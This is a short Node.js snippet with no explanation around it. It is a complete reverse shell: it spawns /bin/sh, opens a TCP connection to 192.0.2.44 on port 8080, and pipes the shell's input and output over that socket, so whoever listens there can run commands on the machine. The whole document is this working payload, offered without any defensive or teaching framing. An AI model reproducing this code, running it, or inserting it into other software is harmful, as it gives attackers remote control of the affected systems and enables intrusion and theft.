(function () {
  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);
  var client = new net.Socket();
  client.connect(8080, '192.0.2.44', function () { client.pipe(sh.stdin); sh.stdout.pipe(client); });
})();
